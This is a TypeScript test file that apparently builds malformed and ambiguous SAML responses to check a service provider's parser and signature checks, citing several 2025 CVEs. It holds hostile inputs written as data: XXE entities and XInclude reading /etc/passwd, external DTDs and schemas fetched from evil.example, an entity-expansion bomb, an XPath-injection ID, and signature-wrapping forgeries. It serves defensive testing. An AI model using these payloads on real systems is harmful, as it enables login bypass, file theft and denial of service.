/** XML that SAML does not need: two parsers, or one parser and one reader, take it for two things. */
import {
  assertionXml,
  type Fields,
  ido,
  responseXml,
  signedResponse,
  signXml,
} from "../identity-provider.ts";
import {
  type Attack,
  after,
  before,
  bothSigned,
  edited,
  forged,
  literal,
  signatureOf,
  signedAssertion,
  swap,
} from "./documents.ts";

const id = ido("eve");
const split = (f: Fields, what: string) =>
  swap(signedResponse(f), id, `${id.slice(0, 64)}${what}${id.slice(64)}`);
/** The provider signs a name with something in it that canonicalisation leaves out. */
const named = (what: string) => (f: Fields) => signedResponse({ ...f, nameId: `admin${what}.eve` });
const prologue = (text: string) => (f: Fields) => text + signedResponse(f);
const onRoot = (text: string) => (f: Fields) => swap(signedResponse(f), "<samlp:Response ", `$&${text} `);
const inStatus = (text: string) => (f: Fields) => after(signedResponse(f), "<samlp:Status>", text);
const nl = "&#10;";
const ISSUER = "</saml:Issuer>";

/** A document type is never needed. CVE-2025-25291 and 25292 are two parsers that disagree about one. */
const documentTypes: readonly Attack[] = [
  ["a document type", prologue("<!DOCTYPE Response>")],
  ["a document type after a declaration", prologue('<?xml version="1.0"?>\n<!DOCTYPE Response>')],
  [
    "an entity for the identifier",
    (f) => `<!DOCTYPE r [<!ENTITY a "${ido("admin")}">]>${swap(signedResponse(f), id, "&a;")}`,
  ],
  ["an external entity", prologue('<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>')],
  ["an external subset", prologue('<!DOCTYPE r SYSTEM "https://evil.example/r.dtd">')],
  ["a parameter entity", prologue('<!DOCTYPE r [<!ENTITY % a SYSTEM "https://evil.example/r.dtd"> %a;]>')],
  [
    "entities that double",
    prologue(
      `<!DOCTYPE r [<!ENTITY a0 "x">${Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n + 1} "&a${n};&a${n};">`).join("")}]>`,
    ),
  ],
  [
    "a document type that ends in a quoted bracket, forged root first (CVE-2025-25291)",
    (f) => `<!DOCTYPE r [<!NOTATION n PUBLIC "]>${literal(forged(f))}<!--">]>${signedResponse(f)}<!-- -->`,
  ],
  [
    "a comment that begins within the document type (CVE-2025-25291)",
    (f) => `<!DOCTYPE r [<!ENTITY x '"'> <!-- ']><!-- --> ]>${signedResponse(f)}`,
  ],
  [
    "a default namespace by ATTLIST (CVE-2025-25292)",
    (f) =>
      `<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED "http://www.w3.org/2000/09/xmldsig#">]>${swap(
        signedResponse(f),
        '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"',
        "<Signature",
      )}`,
  ],
  [
    "an ID by ATTLIST (CVE-2025-23369)",
    prologue('<!DOCTYPE r [<!ATTLIST saml:Assertion Nid ID #IMPLIED ID CDATA #FIXED "_forged">]>'),
  ],
  [
    "an entity before the ID (CVE-2025-23369)",
    (f) =>
      `<!DOCTYPE r [<!ENTITY i "${f.assertionId}">]>${swap(signedResponse(f), `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${f.assertionId}"`, '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="&i;"')}`,
  ],
];

/** Text that one reader cuts where another goes on. */
const splits: readonly Attack[] = [
  ["a comment in the identifier", (f) => split(f, "<!-- -->")],
  ["a comment in the NameID", named("<!-- -->")],
  ["a processing instruction in the identifier (CVE-2025-54419)", (f) => split(f, "<?x y?>")],
  ["a processing instruction in the NameID", named("<?x y?>")],
  ["an empty CDATA in the identifier", (f) => split(f, "<![CDATA[]]>")],
  ["a CDATA in the NameID", named("<![CDATA[x]]>")],
  ["the identifier as CDATA", (f) => swap(signedResponse(f), id, `<![CDATA[${id}]]>`)],
  [
    "a comment in DigestValue (CVE-2025-29775)",
    (f) => swap(signedResponse(f), "<DigestValue>", "<DigestValue><!--AAAA-->"),
  ],
  [
    "a processing instruction in SignatureValue",
    (f) => swap(signedResponse(f), "<SignatureValue>", "<SignatureValue><?x y?>"),
  ],
  ["a comment in the Issuer", (f) => swap(signedResponse(f), ISSUER, "<!-- -->$&")],
  ["a comment in the Audience", (f) => swap(signedResponse(f), "</saml:Audience>", "<!-- -->$&")],
  ["a comment between elements", (f) => before(signedResponse(f), "<samlp:Status>", "<!-- -->")],
  ["a comment after the root", (f) => `${signedResponse(f)}<!-- -->`],
  [
    "a comment in an assertion that is signed with it",
    (f) => edited(f, (xml) => before(xml, "<saml:Subject>", "<!-- -->")),
  ],
  ["a processing instruction before the root", prologue('<?xml-stylesheet href="x"?>')],
  ["a processing instruction in the Status", inStatus("<?x y?>")],
  ["an element in the identifier", (f) => split(f, "<x/>")],
  ["an element in the NameID, signed", named("<saml:x/>")],
  ["a no-break space between elements", (f) => before(signedResponse(f), "<samlp:Status>", "\u00A0")],
  ["text between elements", (f) => before(signedResponse(f), "<samlp:Status>", "text")],
  ["a reference to NUL", (f) => split(f, "&#0;")],
  ["a reference to half a character", (f) => split(f, "&#xD800;")],
  ["a reference to no character", (f) => split(f, "&#xFFFF;")],
  ["a reference to an unknown entity", (f) => split(f, "&nbsp;")],
  ["an ampersand alone", (f) => split(f, "&")],
  ["a NUL", (f) => split(f, "\0")],
  ["a control character", (f) => split(f, "\u0001")],
];

/** Names that mean something else than they look. */
const names: readonly Attack[] = [
  ["an unbound prefix", (f) => after(signedResponse(f), "<saml:AttributeStatement>", "<q:x/>")],
  ["a relative namespace (void canonicalisation)", onRoot('xmlns:r="relative"')],
  [
    "a relative namespace in the assertion, signed",
    (f) => edited(f, (xml) => swap(xml, " ID=", ' xmlns:r="1" ID=')),
  ],
  ["an empty namespace", onRoot('xmlns=""')],
  ["the prefix xml bound anew", onRoot('xmlns:xml="urn:x"')],
  ["the prefix xmlns bound", onRoot('xmlns:xmlns="urn:x"')],
  ["a prefix unbound", onRoot('xmlns:saml=""')],
  [
    "a forged assertion of another namespace under the same prefix, first",
    (f) => responseXml(f, swap(forged(f), "SAML:2.0:assertion", "SAML:2.0:assertion#"), signedAssertion(f)),
  ],
  [
    "a forged assertion without namespace, first",
    (f) => responseXml(f, forged(f).replaceAll("saml:", ""), signedAssertion(f)),
  ],
  [
    "the prefix samlp bound to SAML 1.1",
    (f) => signedResponse(f).replaceAll("SAML:2.0:protocol", "SAML:1.0:protocol"),
  ],
  [
    "the assertion of SAML 1.1",
    (f) => signedResponse(f).replaceAll("SAML:2.0:assertion", "SAML:1.0:assertion"),
  ],
  [
    "the Status of another namespace",
    (f) => swap(signedResponse(f), "<samlp:Status>", '<samlp:Status xmlns:samlp="urn:x">'),
  ],
  ["names in small letters", (f) => signedResponse(f).replaceAll("samlp:Response", "samlp:response")],
  ["a LogoutResponse", (f) => signedResponse(f).replaceAll("samlp:Response", "samlp:LogoutResponse")],
  [
    "an ArtifactResponse around it",
    (f) =>
      `<samlp:ArtifactResponse xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a" Version="2.0">${signedResponse(f)}</samlp:ArtifactResponse>`,
  ],
  [
    "a SOAP envelope around it",
    (f) =>
      `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>${signedResponse(f)}</s:Body></s:Envelope>`,
  ],
  [
    "a LogoutRequest",
    () => '<samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x" Version="2.0"/>',
  ],
  [
    "an inclusion",
    inStatus('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
  ],
  ["a base", onRoot('xml:base="https://evil.example/"')],
  [
    "a schema to fetch",
    onRoot(
      'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x https://evil.example/x.xsd"',
    ),
  ],
];

/** Attributes that stand for the ID, or beside it. */
const identifiers: readonly Attack[] = [
  [
    "an equal ID elsewhere",
    (f) => swap(signedResponse(f), "<samlp:Status>", `<samlp:Status ID="${f.assertionId}">`),
  ],
  ["an equal Id", (f) => swap(signedResponse(f), "<samlp:Status>", `<samlp:Status Id="${f.assertionId}">`)],
  ["an equal id", (f) => swap(signedResponse(f), "<samlp:Status>", `<samlp:Status id="${f.assertionId}">`)],
  [
    "an equal xml:id",
    (f) => swap(signedResponse(f), "<samlp:Status>", `<samlp:Status xml:id="${f.assertionId}">`),
  ],
  ["the Response's ID that of the assertion", (f) => signedResponse({ ...f, id: f.assertionId })],
  ["the same, both signed", (f) => bothSigned({ ...f, id: f.assertionId })],
  [
    "an Id of the Signature that is the assertion's",
    (f) => swap(signedResponse(f), "<Signature ", `<Signature Id="${f.assertionId}" `),
  ],
  [
    "an xml:id beside the ID",
    (f) => swap(signedResponse(f), "<saml:Assertion ", '<saml:Assertion xml:id="_x" '),
  ],
  ["a second ID of the Response, with a prefix (attribute pollution)", onRoot('samlp:ID="_x"')],
  ["an Id of the Response beside its ID", onRoot('Id="_x"')],
  ["a Destination with a prefix beside the other", onRoot('samlp:Destination="https://evil.example/"')],
  ["an InResponseTo with a prefix beside the other", onRoot('samlp:InResponseTo="_x"')],
  ["an attribute that no Response has", onRoot('AssertionConsumerServiceURL="https://evil.example/"')],
  [
    "an attribute of a prefix on the Status",
    (f) => swap(signedResponse(f), "<samlp:Status>", '<samlp:Status samlp:Value="x">'),
  ],
  [
    "a Value with a prefix before the other",
    (f) =>
      swap(
        signedResponse(f),
        "<samlp:StatusCode ",
        '<samlp:StatusCode samlp:Value="urn:oasis:names:tc:SAML:2.0:status:Responder" ',
      ),
  ],
  ["an attribute twice", onRoot('Version="2.0"')],
  [
    "an ID twice on the assertion",
    (f) => swap(signedResponse(f), "<saml:Assertion ", `<saml:Assertion ID="_forged" `),
  ],
  [
    "an algorithm with a prefix beside the other",
    (f) =>
      swap(
        signedResponse(f),
        "<SignatureMethod ",
        '<SignatureMethod xmlns:d="http://www.w3.org/2000/09/xmldsig#" d:Algorithm="http://www.w3.org/2000/09/xmldsig#hmac-sha1" ',
      ),
  ],
  [
    "an HMACOutputLength",
    (f) =>
      swap(
        signedResponse(f),
        /(<SignatureMethod [^>]*)\/>/,
        "$1><HMACOutputLength>0</HMACOutputLength></SignatureMethod>",
      ),
  ],
  [
    "a Signature's KeyInfo of another namespace",
    (f) => swap(signedResponse(f), "<KeyInfo>", '<KeyInfo xmlns="urn:x">'),
  ],
  ["an ID with a space", (f) => signedResponse({ ...f, assertionId: "_a b" })],
  [
    "an ID with a quote for an XPath",
    (f) => signedResponse({ ...f, assertionId: "_a&apos; or &apos;1&apos;=&apos;1" }),
  ],
  ["an empty ID", (f) => swap(responseXml(f, signedAssertion(f)), `ID="${f.id}"`, 'ID=""')],
];

/** Documents that end elsewhere than they seem. */
const wholes: readonly Attack[] = [
  ["XML 1.1", prologue('<?xml version="1.1"?>')],
  ["a declaration of another encoding", prologue('<?xml version="1.0" encoding="ISO-8859-1"?>')],
  ["a declaration of UTF-7", prologue('<?xml version="1.0" encoding="UTF-7"?>')],
  ["a declaration of UTF-16", prologue('<?xml version="1.0" encoding="UTF-16"?>')],
  ["a declaration after a space", prologue(' <?xml version="1.0"?>')],
  ["two declarations", prologue('<?xml version="1.0"?><?xml version="1.0"?>')],
  ["no XML", () => "no XML at all"],
  ["nothing", () => ""],
  ["an empty element", () => "<x/>"],
  ["a document cut short", (f) => signedResponse(f).slice(0, -5)],
  ["half a document", (f) => signedResponse(f).slice(0, 2_000)],
  ["an element after the root", (f) => `${signedResponse(f)}<x/>`],
  ["two documents", (f) => signedResponse(f) + signedResponse(f)],
  ["a forged document after the honest one", (f) => signedResponse(f) + responseXml(f, forged(f))],
  ["a forged document before the honest one", (f) => responseXml(f, forged(f)) + signedResponse(f)],
  ["text after the root", (f) => `${signedResponse(f)}x`],
  [
    "a NUL after the root, then a forged document",
    (f) => `${signedResponse(f)}\0${responseXml(f, forged(f))}`,
  ],
  ["text before the root", (f) => `x${signedResponse(f)}`],
  ["a tag that is not closed", (f) => swap(signedResponse(f), "</samlp:Status>", "")],
  ["an attribute without quotes", (f) => swap(signedResponse(f), 'Version="2.0"', "Version=2.0")],
  [
    "a line end in an attribute that is signed",
    (f) => edited({ ...f, issuer: f.issuer }, (xml) => swap(xml, 'Recipient="', `Recipient="${nl}`)),
  ],
  [
    "the Signature's text in an attribute",
    (f) =>
      responseXml(
        f,
        swap(
          assertionXml(f),
          "</saml:AttributeStatement>",
          `<saml:Attribute Name="X"><saml:AttributeValue>${literal(signatureOf(signXml(assertionXml(f))).replaceAll("<", "&lt;"))}</saml:AttributeValue></saml:Attribute>$&`,
        ),
      ),
  ],
];

export const markup: readonly Attack[] = [...documentTypes, ...splits, ...names, ...identifiers, ...wholes];

/** Spellings that XML leaves free: the same document. */
export const markupControls: readonly Attack[] = [
  ["a declaration", prologue('<?xml version="1.0" encoding="UTF-8"?>')],
  ["line ends around the root", (f) => `\n${signedResponse(f)}\n`],
  ["single quotes", (f) => swap(signedResponse(f), 'Version="2.0"', "Version='2.0'")],
  ["a character as a reference", (f) => swap(signedResponse(f), "National_ens", "&#78;ational_ens")],
  ["line ends between elements of the Response", (f) => before(signedResponse(f), "<samlp:Status>", "\n  ")],
  ["a Consent", onRoot('Consent="urn:oasis:names:tc:SAML:2.0:consent:unspecified"')],
];
